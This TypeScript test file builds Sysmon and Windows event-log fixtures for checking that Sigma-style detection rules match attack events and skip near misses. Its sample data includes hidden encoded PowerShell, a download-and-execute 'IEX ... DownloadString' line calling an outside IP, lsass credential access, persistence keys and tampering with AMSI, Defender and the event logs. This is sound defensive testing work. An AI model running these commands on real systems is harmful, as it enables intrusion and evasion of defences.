/**
 * Windows event fixtures in Sysmon event form, one Sigma logsource category each: an event a typical
 * rule of the category matches and a near miss it must not match, plus the Defender table, ActionType
 * and columns each must load into. `npx tsx test/helpers/gen-windows-fixtures.ts` writes them under
 * test/fixtures/windows/<category>/ as .evtx (test/helpers/evtx-writer.ts), evtx_dump-style JSON and
 * flat Windows-event JSON; test/telemetry/loaders/windows-fixtures.test.ts loads all three.
 */
import type { DataValue, WinEvent } from './evtx-writer.js';

export const SYSMON = { name: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' };
export const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';
export const COMPUTER = 'ws01.corp.local';
const USER = 'CORP\\alice';

export interface FixtureEvent {
  readonly eventId: number;
  /** The log it is written to; Sysmon's when absent. */
  readonly log?: EventLog;
  /** UTC, as Sysmon's UtcTime and the record's TimeCreated. */
  readonly time: string;
  readonly data: Readonly<Record<string, DataValue>>;
  /** Where it must land, and column values it must have there. */
  readonly expect: {
    readonly table: string;
    readonly actionType: string;
    readonly columns: Readonly<Record<string, string | number | Readonly<Record<string, unknown>>>>;
  };
}

/** A provider and the channel it writes to (with the level and task of the fixture's events). */
export interface EventLog {
  readonly provider: { readonly name: string; readonly guid: string };
  readonly channel: string;
  readonly level: number;
  readonly task: number;
  readonly version: number;
}

export interface CategoryFixture {
  /** Sigma logsource category (product windows). */
  readonly category: string;
  /** The detection logic of a typical rule of the category (Sigma field names). */
  readonly rule: string;
  readonly match: FixtureEvent;
  readonly nearMiss: FixtureEvent;
}

const guid = (n: number) => ({ guid: `{A1B2C3D4-0000-4000-8000-${n.toString(16).padStart(12, '0').toUpperCase()}}` });

let minute = 0;
/** Sysmon's common fields, a fresh minute per event so each has its own time. */
function base(
  eventId: number,
  data: Record<string, DataValue>,
): { eventId: number; time: string; data: Record<string, DataValue> } {
  minute++;
  const t = new Date(Date.UTC(2024, 4, 1, 10, minute, 7, 250));
  const utc = t.toISOString().replace('T', ' ').replace('Z', '');
  return { eventId, time: t.toISOString(), data: { RuleName: '-', UtcTime: utc, ...data } };
}

function ev(eventId: number, data: Record<string, DataValue>, expect: FixtureEvent['expect']): FixtureEvent {
  return { ...base(eventId, data), expect };
}

const proc = (image: string, pid: number) => ({ ProcessGuid: guid(pid), ProcessId: pid, Image: image });
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const RUNDLL = 'C:\\Windows\\System32\\rundll32.exe';

export const CATEGORY_FIXTURES: readonly CategoryFixture[] = [
  {
    category: 'process_creation',
    rule: "Image|endswith: '\\powershell.exe' and CommandLine|contains: ' -enc '",
    match: ev(
      1,
      {
        ...proc(PS, 4242),
        FileVersion: '10.0.19041.546',
        Description: 'Windows PowerShell',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: 'PowerShell.EXE',
        CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
        CurrentDirectory: 'C:\\Users\\alice\\Documents\\',
        User: USER,
        LogonGuid: guid(1),
        LogonId: { hex64: 0x5a3c1n },
        TerminalSessionId: 1,
        IntegrityLevel: 'Medium',
        Hashes:
          'SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C',
        ParentProcessGuid: guid(3100),
        ParentProcessId: 3100,
        ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        ParentCommandLine:
          '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"',
        ParentUser: USER,
      },
      {
        table: 'DeviceProcessEvents',
        actionType: 'ProcessCreated',
        columns: {
          FileName: 'powershell.exe',
          FolderPath: PS,
          ProcessCommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
          ProcessId: 4242,
          ProcessVersionInfoOriginalFileName: 'PowerShell.EXE',
          AccountName: 'alice',
          AccountDomain: 'CORP',
          InitiatingProcessFileName: 'WINWORD.EXE',
          InitiatingProcessId: 3100,
          SHA256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
          LogonId: 0x5a3c1,
          CreatedProcessSessionId: 1,
          InitiatingProcessAccountName: 'alice',
          AdditionalFields: { CurrentDirectory: 'C:\\Users\\alice\\Documents\\' },
        },
      },
    ),
    nearMiss: ev(
      1,
      {
        ...proc(PS, 5120),
        OriginalFileName: 'PowerShell.EXE',
        CommandLine: 'powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1',
        CurrentDirectory: 'C:\\Scripts\\',
        User: USER,
        LogonId: { hex64: 0x5a3c1n },
        IntegrityLevel: 'Medium',
        ParentProcessGuid: guid(2200),
        ParentProcessId: 2200,
        ParentImage: 'C:\\Windows\\explorer.exe',
        ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
      },
      {
        table: 'DeviceProcessEvents',
        actionType: 'ProcessCreated',
        columns: { FileName: 'powershell.exe', InitiatingProcessFileName: 'explorer.exe', ProcessId: 5120 },
      },
    ),
  },
  {
    category: 'network_connection',
    rule: "Image|endswith: '\\rundll32.exe' and Initiated: 'true' and not DestinationIp|cidr: 10.0.0.0/8",
    match: ev(
      3,
      {
        ...proc(RUNDLL, 6100),
        User: USER,
        Protocol: 'tcp',
        Initiated: true,
        SourceIsIpv6: false,
        SourceIp: '10.1.20.15',
        SourceHostname: COMPUTER,
        SourcePort: { uint16: 51512 },
        DestinationIsIpv6: false,
        DestinationIp: '203.0.113.50',
        DestinationHostname: '',
        DestinationPort: { uint16: 4444 },
      },
      {
        table: 'DeviceNetworkEvents',
        actionType: 'ConnectionSuccess',
        columns: {
          InitiatingProcessFileName: 'rundll32.exe',
          RemoteIP: '203.0.113.50',
          RemotePort: 4444,
          LocalIP: '10.1.20.15',
          LocalPort: 51512,
          Protocol: 'Tcp',
        },
      },
    ),
    nearMiss: ev(
      3,
      {
        ...proc(RUNDLL, 6101),
        User: USER,
        Protocol: 'tcp',
        Initiated: true,
        SourceIp: '10.1.20.15',
        SourcePort: { uint16: 51600 },
        DestinationIp: '10.1.0.10',
        DestinationHostname: 'dc01.corp.local',
        DestinationPort: { uint16: 445 },
      },
      {
        table: 'DeviceNetworkEvents',
        actionType: 'ConnectionSuccess',
        columns: { RemoteIP: '10.1.0.10', RemotePort: 445, RemoteUrl: 'dc01.corp.local' },
      },
    ),
  },
  {
    category: 'file_event',
    rule: "TargetFilename|contains: '\\Start Menu\\Programs\\Startup\\' and TargetFilename|endswith: '.lnk'",
    match: ev(
      11,
      {
        ...proc('C:\\Users\\alice\\Downloads\\invoice.exe', 7000),
        TargetFilename:
          'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.lnk',
        CreationUtcTime: '2024-05-01 10:03:07.250',
        User: USER,
      },
      {
        table: 'DeviceFileEvents',
        actionType: 'FileCreated',
        columns: {
          FileName: 'update.lnk',
          FolderPath:
            'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.lnk',
          InitiatingProcessFileName: 'invoice.exe',
          InitiatingProcessAccountName: 'alice',
        },
      },
    ),
    nearMiss: ev(
      11,
      {
        ...proc('C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 3100),
        TargetFilename: 'C:\\Users\\alice\\Documents\\report.lnk',
        CreationUtcTime: '2024-05-01 10:04:07.250',
        User: USER,
      },
      { table: 'DeviceFileEvents', actionType: 'FileCreated', columns: { FileName: 'report.lnk' } },
    ),
  },
  {
    category: 'file_delete',
    rule: "TargetFilename|startswith: 'C:\\Windows\\System32\\winevt\\Logs\\' and TargetFilename|endswith: '.evtx'",
    match: ev(
      23,
      {
        ...proc('C:\\Users\\alice\\Downloads\\wipe.exe', 7100),
        User: USER,
        TargetFilename: 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx',
        Hashes:
          'SHA1=0000000000000000000000000000000000000001,MD5=00000000000000000000000000000001,SHA256=0000000000000000000000000000000000000000000000000000000000000001',
        IsExecutable: false,
        Archived: 'true',
      },
      {
        table: 'DeviceFileEvents',
        actionType: 'FileDeleted',
        columns: { FileName: 'Security.evtx', InitiatingProcessFileName: 'wipe.exe' },
      },
    ),
    nearMiss: ev(
      23,
      {
        ...proc('C:\\Windows\\explorer.exe', 2200),
        User: USER,
        TargetFilename: 'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp1234.evtx',
        Hashes: 'SHA1=0000000000000000000000000000000000000002',
        IsExecutable: false,
        Archived: 'false',
      },
      { table: 'DeviceFileEvents', actionType: 'FileDeleted', columns: { FileName: 'tmp1234.evtx' } },
    ),
  },
  {
    category: 'file_delete_detected',
    rule: "TargetFilename|startswith: 'C:\\ProgramData\\' and TargetFilename|endswith: '.dll' (Sysmon 26, Sigma category file_delete)",
    match: ev(
      26,
      {
        ...proc('C:\\Windows\\System32\\cmd.exe', 7200),
        User: USER,
        TargetFilename: 'C:\\ProgramData\\payload.dll',
        Hashes: 'SHA1=0000000000000000000000000000000000000003',
        IsExecutable: true,
      },
      {
        table: 'DeviceFileEvents',
        actionType: 'FileDeleted',
        columns: { FileName: 'payload.dll', FolderPath: 'C:\\ProgramData\\payload.dll' },
      },
    ),
    nearMiss: ev(
      26,
      {
        ...proc('C:\\Windows\\System32\\cmd.exe', 7201),
        User: USER,
        TargetFilename: 'C:\\ProgramData\\cache.tmp',
        IsExecutable: false,
      },
      { table: 'DeviceFileEvents', actionType: 'FileDeleted', columns: { FileName: 'cache.tmp' } },
    ),
  },
  {
    category: 'registry_add',
    rule: "EventType: 'CreateKey' and TargetObject|contains: '\\CurrentControlSet\\Services\\'",
    match: ev(
      12,
      {
        EventType: 'CreateKey',
        ...proc('C:\\Users\\alice\\Downloads\\setup.exe', 7300),
        TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\EvilSvc',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryKeyCreated',
        columns: {
          RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\EvilSvc',
          InitiatingProcessFileName: 'setup.exe',
        },
      },
    ),
    nearMiss: ev(
      12,
      {
        EventType: 'CreateKey',
        ...proc('C:\\Program Files\\Vendor\\app.exe', 7301),
        TargetObject: 'HKLM\\SOFTWARE\\Vendor\\App',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryKeyCreated',
        columns: { RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Vendor\\App' },
      },
    ),
  },
  {
    category: 'registry_delete',
    rule: "EventType: 'DeleteKey' and TargetObject|contains: '\\AMSI\\Providers\\'",
    match: ev(
      12,
      {
        EventType: 'DeleteKey',
        ...proc(PS, 7400),
        TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryKeyDeleted',
        columns: {
          RegistryKey:
            'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}',
        },
      },
    ),
    nearMiss: ev(
      12,
      {
        EventType: 'DeleteValue',
        ...proc('C:\\Windows\\explorer.exe', 2200),
        TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\MRU\\a',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryValueDeleted',
        columns: {
          RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\MRU',
          RegistryValueName: 'a',
        },
      },
    ),
  },
  {
    category: 'registry_set',
    rule: "TargetObject|contains: '\\CurrentVersion\\Run\\' and Details|contains: '\\Temp\\'",
    match: ev(
      13,
      {
        EventType: 'SetValue',
        ...proc('C:\\Users\\alice\\Downloads\\invoice.exe', 7000),
        TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
        Details: 'C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryValueSet',
        columns: {
          RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          RegistryValueName: 'Updater',
          RegistryValueData: 'C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe',
        },
      },
    ),
    nearMiss: ev(
      13,
      {
        EventType: 'SetValue',
        ...proc('C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', 7500),
        TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
        Details: '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
        User: USER,
      },
      { table: 'DeviceRegistryEvents', actionType: 'RegistryValueSet', columns: { RegistryValueName: 'OneDrive' } },
    ),
  },
  {
    category: 'registry_rename',
    rule: "TargetObject|endswith: '\\Services\\WinDefend'",
    match: ev(
      14,
      {
        EventType: 'RenameKey',
        ...proc('C:\\Windows\\System32\\reg.exe', 7600),
        TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WinDefend',
        NewName: 'HKLM\\System\\CurrentControlSet\\Services\\WinDefend_old',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryKeyRenamed',
        columns: {
          RegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\WinDefend_old',
          PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\WinDefend',
          InitiatingProcessFileName: 'reg.exe',
        },
      },
    ),
    nearMiss: ev(
      14,
      {
        EventType: 'RenameKey',
        ...proc('C:\\Windows\\regedit.exe', 7601),
        TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\Old',
        NewName: 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\New',
        User: USER,
      },
      {
        table: 'DeviceRegistryEvents',
        actionType: 'RegistryKeyRenamed',
        columns: { RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Vendor\\New' },
      },
    ),
  },
  {
    category: 'image_load',
    rule: "ImageLoaded|endswith: '\\System.Management.Automation.dll' and not Image|endswith: '\\powershell.exe'",
    match: ev(
      7,
      {
        ...proc(RUNDLL, 6100),
        ImageLoaded:
          'C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35\\System.Management.Automation.dll',
        FileVersion: '10.0.19041.1',
        Description: 'System.Management.Automation',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: 'System.Management.Automation.dll',
        Hashes: 'SHA1=0000000000000000000000000000000000000007',
        Signed: 'true',
        Signature: 'Microsoft Corporation',
        SignatureStatus: 'Valid',
        User: USER,
      },
      {
        table: 'DeviceImageLoadEvents',
        actionType: 'ImageLoaded',
        columns: { FileName: 'System.Management.Automation.dll', InitiatingProcessFileName: 'rundll32.exe' },
      },
    ),
    nearMiss: ev(
      7,
      {
        ...proc(PS, 4242),
        ImageLoaded:
          'C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35\\System.Management.Automation.dll',
        OriginalFileName: 'System.Management.Automation.dll',
        Signed: 'true',
        User: USER,
      },
      {
        table: 'DeviceImageLoadEvents',
        actionType: 'ImageLoaded',
        columns: { FileName: 'System.Management.Automation.dll', InitiatingProcessFileName: 'powershell.exe' },
      },
    ),
  },
  {
    category: 'dns_query',
    rule: "QueryName|endswith: '.ngrok.io'",
    match: ev(
      22,
      {
        ...proc('C:\\Users\\alice\\AppData\\Local\\Temp\\agent.exe', 7700),
        QueryName: 'a1b2c3.ngrok.io',
        QueryStatus: '0',
        QueryResults: '::ffff:3.134.39.220;',
        User: USER,
      },
      {
        table: 'DeviceEvents',
        actionType: 'DnsQueryResponse',
        columns: {
          RemoteUrl: 'a1b2c3.ngrok.io',
          InitiatingProcessFileName: 'agent.exe',
          AdditionalFields: { DnsQueryString: 'a1b2c3.ngrok.io' },
        },
      },
    ),
    nearMiss: ev(
      22,
      {
        ...proc('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 7701),
        QueryName: 'www.microsoft.com',
        QueryStatus: '0',
        QueryResults: 'type:  5 www.microsoft.com-c-3.edgekey.net;',
        User: USER,
      },
      { table: 'DeviceEvents', actionType: 'DnsQueryResponse', columns: { RemoteUrl: 'www.microsoft.com' } },
    ),
  },
  {
    category: 'pipe_created',
    rule: "PipeName|startswith: '\\postex_' (Sysmon 17 created / 18 connected)",
    match: ev(
      17,
      { EventType: 'CreatePipe', ...proc(RUNDLL, 6100), PipeName: '\\postex_8a2c', User: USER },
      {
        table: 'DeviceEvents',
        actionType: 'NamedPipeEvent',
        columns: {
          InitiatingProcessFileName: 'rundll32.exe',
          AdditionalFields: { PipeName: '\\postex_8a2c', FileOperation: 'File created' },
        },
      },
    ),
    nearMiss: ev(
      18,
      {
        EventType: 'ConnectPipe',
        ...proc('C:\\Windows\\System32\\svchost.exe', 900),
        PipeName: '\\srvsvc',
        User: USER,
      },
      {
        table: 'DeviceEvents',
        actionType: 'NamedPipeEvent',
        columns: {
          InitiatingProcessFileName: 'svchost.exe',
          AdditionalFields: { PipeName: '\\srvsvc', FileOperation: 'File opened' },
        },
      },
    ),
  },
  {
    category: 'process_access',
    rule: "TargetImage|endswith: '\\lsass.exe' and GrantedAccess: '0x1010'",
    match: ev(
      10,
      {
        SourceProcessGUID: guid(7800),
        SourceProcessId: 7800,
        SourceThreadId: 7804,
        SourceImage: 'C:\\Users\\alice\\Downloads\\mimi.exe',
        TargetProcessGUID: guid(700),
        TargetProcessId: 700,
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1010',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|UNKNOWN(00007FF6A1B2C3D4)',
        SourceUser: USER,
        TargetUser: 'NT AUTHORITY\\SYSTEM',
      },
      {
        table: 'DeviceEvents',
        actionType: 'OpenProcessApiCall',
        columns: {
          FileName: 'lsass.exe',
          InitiatingProcessFileName: 'mimi.exe',
          ProcessId: 700,
          AdditionalFields: { DesiredAccess: 0x1010 },
        },
      },
    ),
    nearMiss: ev(
      10,
      {
        SourceProcessGUID: guid(3300),
        SourceProcessId: 3300,
        SourceThreadId: 3304,
        SourceImage: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe',
        TargetProcessGUID: guid(700),
        TargetProcessId: 700,
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1000',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d204',
      },
      {
        table: 'DeviceEvents',
        actionType: 'OpenProcessApiCall',
        columns: { FileName: 'lsass.exe', InitiatingProcessFileName: 'MsMpEng.exe' },
      },
    ),
  },
  {
    category: 'create_remote_thread',
    rule: "SourceImage|endswith: '\\powershell.exe'",
    match: ev(
      8,
      {
        SourceProcessGuid: guid(4242),
        SourceProcessId: 4242,
        SourceImage: PS,
        TargetProcessGuid: guid(2200),
        TargetProcessId: 2200,
        TargetImage: 'C:\\Windows\\explorer.exe',
        NewThreadId: 9120,
        StartAddress: '0x000001D2A3B40000',
        StartModule: '-',
        StartFunction: '-',
        SourceUser: USER,
        TargetUser: USER,
      },
      {
        table: 'DeviceEvents',
        actionType: 'CreateRemoteThreadApiCall',
        columns: { InitiatingProcessFileName: 'powershell.exe', FileName: 'explorer.exe', ProcessId: 2200 },
      },
    ),
    nearMiss: ev(
      8,
      {
        SourceProcessGuid: guid(600),
        SourceProcessId: 600,
        SourceImage: 'C:\\Windows\\System32\\csrss.exe',
        TargetProcessGuid: guid(900),
        TargetProcessId: 900,
        TargetImage: 'C:\\Windows\\System32\\svchost.exe',
        NewThreadId: 1204,
        StartAddress: '0x00007FFB1C2D3E40',
        StartModule: 'C:\\Windows\\System32\\KERNELBASE.dll',
        StartFunction: 'CtrlRoutine',
      },
      {
        table: 'DeviceEvents',
        actionType: 'CreateRemoteThreadApiCall',
        columns: { InitiatingProcessFileName: 'csrss.exe' },
      },
    ),
  },
  {
    category: 'driver_load',
    rule: "ImageLoaded|contains: '\\Temp\\' and ImageLoaded|endswith: '.sys'",
    match: ev(
      6,
      {
        ImageLoaded: 'C:\\Windows\\Temp\\mhyprot2.sys',
        Hashes:
          'SHA1=0466E90BF0E83B776CA8716E01D35A8A2E5F96D3,MD5=4B817D0E7714B9D43DB43AE4A22A161E,SHA256=509628B6D16D2428031311D7BD2ADD8D5F5160E9ECC0CD909F1E82BBBB3234D6',
        Signed: 'true',
        Signature: 'miHoYo Co.,Ltd.',
        SignatureStatus: 'Valid',
      },
      {
        table: 'DeviceEvents',
        actionType: 'DriverLoad',
        columns: {
          FileName: 'mhyprot2.sys',
          FolderPath: 'C:\\Windows\\Temp\\mhyprot2.sys',
          SHA1: '0466e90bf0e83b776ca8716e01d35a8a2e5f96d3',
        },
      },
    ),
    nearMiss: ev(
      6,
      {
        ImageLoaded: 'C:\\Windows\\System32\\drivers\\ntfs.sys',
        Hashes: 'SHA1=0000000000000000000000000000000000000006',
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
      },
      { table: 'DeviceEvents', actionType: 'DriverLoad', columns: { FileName: 'ntfs.sys' } },
    ),
  },
  {
    category: 'wmi_event',
    rule: "EventID: 20 and Destination|contains: 'powershell'",
    match: ev(
      20,
      {
        EventType: 'WmiConsumerEvent',
        Operation: 'Created',
        User: USER,
        Name: ' "Updater"',
        Type: 'Command Line',
        Destination: ' "powershell.exe -nop -enc SQBFAFgA"',
      },
      {
        table: 'DeviceEvents',
        actionType: 'WmiEventConsumer',
        columns: {
          InitiatingProcessAccountName: 'alice',
          AdditionalFields: { Destination: ' "powershell.exe -nop -enc SQBFAFgA"', SysmonEventId: 20 },
        },
      },
    ),
    nearMiss: ev(
      20,
      {
        EventType: 'WmiConsumerEvent',
        Operation: 'Created',
        User: USER,
        Name: ' "VendorReport"',
        Type: 'Command Line',
        Destination: ' "C:\\Program Files\\Vendor\\agent.exe --report"',
      },
      { table: 'DeviceEvents', actionType: 'WmiEventConsumer', columns: { InitiatingProcessAccountName: 'alice' } },
    ),
  },
];

/** The rest of a WMI subscription (filter and binding): loaded by the mapping test, not a match pair. */
export const WMI_SUBSCRIPTION: readonly FixtureEvent[] = [
  ev(
    19,
    {
      EventType: 'WmiFilterEvent',
      Operation: 'Created',
      User: USER,
      EventNamespace: ' "root\\\\cimv2"',
      Name: ' "Updater"',
      Query:
        ' "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\'"',
    },
    { table: 'DeviceEvents', actionType: 'WmiEventFilter', columns: { InitiatingProcessAccountName: 'alice' } },
  ),
  ev(
    21,
    {
      EventType: 'WmiBindingEvent',
      Operation: 'Created',
      User: USER,
      Consumer: ' "CommandLineEventConsumer.Name=\\"Updater\\""',
      Filter: ' "__EventFilter.Name=\\"Updater\\""',
    },
    {
      table: 'DeviceEvents',
      actionType: 'WmiBindEventFilterToConsumer',
      columns: { InitiatingProcessAccountName: 'alice' },
    },
  ),
];

/** The event as the .evtx writer takes it. */
export function winEvent(e: FixtureEvent): WinEvent {
  if (e.log)
    return {
      provider: e.log.provider,
      eventId: e.eventId,
      version: e.log.version,
      level: e.log.level,
      task: e.log.task,
      opcode: 0,
      keywords: 0x8000000000000000n,
      timeCreated: e.time,
      processId: 3212,
      threadId: 4040,
      channel: e.log.channel,
      computer: COMPUTER,
      userId: 'S-1-5-21-1004336348-1177238915-682003330-1104',
      data: e.data,
    };
  return {
    provider: SYSMON,
    eventId: e.eventId,
    version: e.eventId === 1 ? 5 : e.eventId === 3 ? 5 : 2,
    level: 4,
    task: e.eventId,
    opcode: 0,
    keywords: 0x8000000000000000n,
    timeCreated: e.time,
    processId: 3212,
    threadId: 4040,
    channel: SYSMON_CHANNEL,
    computer: COMPUTER,
    userId: 'S-1-5-18',
    data: e.data,
  };
}

const POWERSHELL: EventLog = {
  provider: { name: 'Microsoft-Windows-PowerShell', guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' },
  channel: 'Microsoft-Windows-PowerShell/Operational',
  level: 5,
  task: 2,
  version: 1,
};

const SERVICE_CONTROL_MANAGER: EventLog = {
  provider: { name: 'Service Control Manager', guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}' },
  channel: 'System',
  level: 4,
  task: 0,
  version: 0,
};

/** An event of a channel Defender has no table for: it loads into WindowsEvent. */
function channelEvent(log: EventLog, eventId: number, data: Record<string, DataValue>): FixtureEvent {
  minute++;
  const time = new Date(Date.UTC(2024, 4, 1, 11, minute, 3, 500)).toISOString();
  return {
    eventId,
    log,
    time,
    data,
    expect: { table: 'WindowsEvent', actionType: '', columns: { Channel: log.channel, Provider: log.provider.name } },
  };
}

/**
 * Event-log channel fixtures (Sigma logsources that convert onto WindowsEvent): PowerShell script
 * block logging (category ps_script, EventID 4104) and a service installation in the System log
 * (service system, EventID 7045).
 */
export const CHANNEL_FIXTURES: readonly CategoryFixture[] = [
  {
    category: 'ps_script',
    rule: "ScriptBlockText|contains|all: ['Net.WebClient', '.DownloadString(']",
    match: channelEvent(POWERSHELL, 4104, {
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')",
      ScriptBlockId: '6e4d7f4c-2d0b-4b7e-9c1a-0d5a1f3e2b11',
      Path: '',
    }),
    nearMiss: channelEvent(POWERSHELL, 4104, {
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText:
        "(New-Object Net.WebClient).DownloadFile('https://intranet.corp.local/tools.zip', 'C:\\Temp\\tools.zip')",
      ScriptBlockId: '0b8e2c55-7a31-4f0e-8d2e-4c6f9a1b3d22',
      Path: 'C:\\Scripts\\fetch-tools.ps1',
    }),
  },
  {
    category: 'system',
    rule: "Provider_Name: 'Service Control Manager' and EventID: 7045 and ImagePath|contains: '\\AppData\\Local\\Temp\\'",
    match: channelEvent(SERVICE_CONTROL_MANAGER, 7045, {
      ServiceName: 'UpdaterSvc',
      ImagePath: 'C:\\Users\\alice\\AppData\\Local\\Temp\\svc64.exe -k run',
      ServiceType: 'user mode service',
      StartType: 'auto start',
      AccountName: 'LocalSystem',
    }),
    nearMiss: channelEvent(SERVICE_CONTROL_MANAGER, 7045, {
      ServiceName: 'VendorAgent',
      ImagePath: '"C:\\Program Files\\Vendor\\agent.exe" --service',
      ServiceType: 'user mode service',
      StartType: 'auto start',
      AccountName: 'LocalSystem',
    }),
  },
];
